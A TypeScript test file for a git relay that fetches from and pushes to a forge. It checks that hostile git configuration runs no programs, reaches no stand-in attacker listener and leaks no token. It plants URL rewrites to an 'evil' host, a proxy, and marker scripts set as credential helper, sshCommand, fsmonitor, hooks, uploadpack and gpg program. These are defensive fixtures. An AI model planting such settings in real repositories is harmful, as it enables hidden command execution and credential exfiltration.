/** An agent writes what it likes into the repository that it works in, and the user's own settings may say the same. */
import { appendFileSync, chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, onTestFinished, test, vi } from 'vitest';
import { fetchBranch, pushBranch } from '../../../src/actors/forge/relay.ts';
import { commitFiles, git } from '../repository.ts';
import { type ForgePlace, startForge, startListener } from './place.ts';

/** Settings by which git would ask somebody else, or run a program that leaves a mark. */
function hostileSettings(evil: string, { fake, relays }: ForgePlace, run: string): string {
  return [
    ...[fake.url, 'http://', relays, '/'].flatMap(prefix => [
      `[url "${evil}/"]\n\tinsteadOf = ${prefix}\n\tpushInsteadOf = ${prefix}`,
    ]),
    `[credential]\n\thelper = "!${run} helper"`,
    `[core]\n\tsshCommand = ${run} ssh\n\thooksPath = ${run}-hooks\n\tfsmonitor = ${run} fsmonitor`,
    `\taskPass = ${run}\n\tgitProxy = ${run}\n\talternateRefsCommand = ${run} alternates\n\tpager = ${run}`,
    `[http]\n\tproxy = ${evil}\n\textraHeader = X-Evil: yes\n\tcookieFile = ${run}`,
    `[remote "origin"]\n\turl = ${evil}/a.git\n\tpushurl = ${evil}/b.git\n\tproxy = ${evil}`,
    `[remote "${fake.url}/acme/app.git"]\n\turl = ${evil}/c.git\n\tpushurl = ${evil}/d.git`,
    `\tuploadpack = ${run} upload\n\treceivepack = ${run} receive\n\tvcs = evil`,
    `[remote "evil"]\n\turl = ${relays}\n\tpromisor = true\n\tuploadpack = ${run} promisor`,
    `[fetch]\n\trecurseSubmodules = true\n[submodule]\n\trecurse = true`,
    `[push]\n\tgpgSign = if-asked\n[gpg]\n\tprogram = ${run} gpg`,
  ].join('\n');
}

/** A program that leaves a mark, hooks that do, and a list of what has run. */
function startProgram(directory: string) {
  const marks = join(directory, 'marks');
  mkdirSync(marks);
  const program = join(directory, 'evil.sh');
  const script = (name: string) => `#!/bin/sh\ntouch "${marks}/${name}-$(basename "$0")"\nexit 0\n`;
  const make = (path: string, name: string) => {
    writeFileSync(path, script(name));
    chmodSync(path, 0o755);
  };
  make(program, 'program');
  const hooksIn = (folder: string) => {
    mkdirSync(folder, { recursive: true });
    for (const hook of ['pre-push', 'reference-transaction', 'post-checkout', 'post-merge', 'pre-auto-gc', 'update']) {
      make(join(folder, hook), 'hook');
    }
  };
  hooksIn(`${program}-hooks`);
  return { program, hooksIn, ran: () => readdirSync(marks) };
}

test('nothing of it runs, nothing reaches anybody else, and the push goes to the forge', async () => {
  const forge = await startForge();
  const { directory, repository, place, tipOf } = forge;
  const evil = await startListener();
  const { program, hooksIn, ran } = startProgram(directory);
  const ours = commitFiles(repository, { 'ours.txt': 'ours' });
  const settings = hostileSettings(evil.url, forge, program);
  const elsewhere = join(directory, 'elsewhere.config');
  writeFileSync(elsewhere, settings);
  const own = join(repository, '.git');
  hooksIn(join(own, 'hooks'));
  appendFileSync(
    join(own, 'config'),
    `${settings}\n[include]\n\tpath = ${elsewhere}\n[extensions]\n\tworktreeConfig = true\n`,
  );
  writeFileSync(join(own, 'config.worktree'), settings);
  writeFileSync(join(own, 'objects/info/alternates'), `${join(directory, 'borrowed/objects')}\n`);
  git(directory, 'init', '--quiet', '--bare', 'borrowed');
  appendFileSync(join(directory, 'borrowed/config'), settings);
  const home = join(directory, 'home');
  mkdirSync(home);
  writeFileSync(join(home, '.gitconfig'), settings);
  writeFileSync(join(home, '.netrc'), 'machine 127.0.0.1 login evil password evil\n');
  vi.stubEnv('HOME', home);
  vi.stubEnv('XDG_CONFIG_HOME', home);
  for (const name of ['GIT_SSH_COMMAND', 'GIT_ASKPASS', 'GIT_EXTERNAL_DIFF', 'GIT_PROXY_COMMAND'])
    vi.stubEnv(name, program);
  onTestFinished(() => void vi.unstubAllEnvs());

  expect(await fetchBranch(place, 'main')).toBe(tipOf('main'));
  await pushBranch(place, 'feature/ours', ours);
  const theirs = await forge.fake.commit('acme/app', { branch: 'main', files: { 'b.txt': 'b' }, by: 'maria' });
  expect(await fetchBranch(place, 'main')).toBe(theirs);

  expect(tipOf('feature/ours')).toBe(ours);
  expect(ran()).toEqual([]);
  expect(evil.heard).toEqual([]);
});

/** What every process of this machine was started with, of those that are this test's children. */
function processes(): { pid: number; said: string }[] {
  const text = (pid: string, file: string) => {
    try {
      return readFileSync(`/proc/${pid}/${file}`, 'utf8');
    } catch {
      return '';
    }
  };
  return readdirSync('/proc')
    .filter(name => /^\d+$/.test(name))
    .map(pid => ({ pid: Number(pid), said: `${text(pid, 'cmdline')}\0${text(pid, 'environ')}` }));
}

/** The text of every file below a directory; what is gone while it is read has none. */
function textsBelow(directory: string): string[] {
  const orNothing = <T>(look: () => T[]): T[] => {
    try {
      return look();
    } catch {
      return [];
    }
  };
  return orNothing(() => readdirSync(directory, { withFileTypes: true })).flatMap(entry => {
    const path = join(directory, entry.name);
    return entry.isDirectory() ? textsBelow(path) : orNothing(() => [readFileSync(path, 'latin1')]);
  });
}

test.runIf(existsSync('/proc/self/environ'))(
  'I8: while a push runs the token is in no argument, no environment, no file, no configuration and no address',
  async () => {
    const { fake, forge, place, repository, directory, tipOf } = await startForge();
    const ours = commitFiles(repository, { 'ours.txt': 'ours' });
    const { password } = forge.credentials;
    const forms = [password, Buffer.from(`signalbox:${password}`).toString('base64'), encodeURIComponent(password)];
    const isTold = (text: string) => forms.some(form => text.includes(form));
    fake.latency(150);
    let isDone = false;
    const push = pushBranch(place, 'feature/ours', ours).finally(() => {
      isDone = true;
    });
    const leaks: string[] = [];
    let seen = 0;
    while (!isDone) {
      const all = processes();
      seen += all.filter(({ said }) => said.includes('git-remote-http') || said.includes('remote-http')).length;
      leaks.push(...all.filter(({ said }) => isTold(said)).map(({ said }) => said));
      const texts = [join(directory, 'data'), join(repository, '.git')].flatMap(textsBelow);
      leaks.push(...texts.filter(isTold));
      await new Promise(resolve => setImmediate(resolve));
    }
    await push;
    expect(seen).toBeGreaterThan(0);
    expect(leaks).toEqual([]);
    expect(tipOf('feature/ours')).toBe(ours);
    const relay = join(place.directory, readdirSync(place.directory)[0]!);
    expect(git(relay, 'config', '--local', '--list')).not.toMatch(/url|credential/);
    expect(git(repository, 'config', '--local', '--list')).not.toContain(password);
  },
);
